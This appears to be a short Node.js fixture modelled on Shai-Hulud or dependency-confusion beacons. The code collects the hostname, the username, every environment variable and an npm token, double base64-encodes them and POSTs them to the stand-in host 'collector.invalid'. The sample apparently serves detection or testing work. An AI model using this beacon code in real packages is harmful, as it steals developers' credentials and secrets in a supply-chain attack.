// Shape of Shai-Hulud / dependency-confusion beacons: environment and host facts, double base64, POST.
const https = require('https');
const os = require('os');

function collect() {
  const info = {
    host: os.hostname(),
    user: os.userInfo().username,
    env: process.env,
    token: process.env.NPM_TOKEN || 'npm_FIXTURE0000000000000000000000000000',
  };
  return Buffer.from(Buffer.from(JSON.stringify(info)).toString('base64')).toString('base64');
}

const payload = collect();
const req = https.request({ hostname: 'collector.invalid', port: 443, path: '/c', method: 'POST' });
req.write(payload);
req.end();
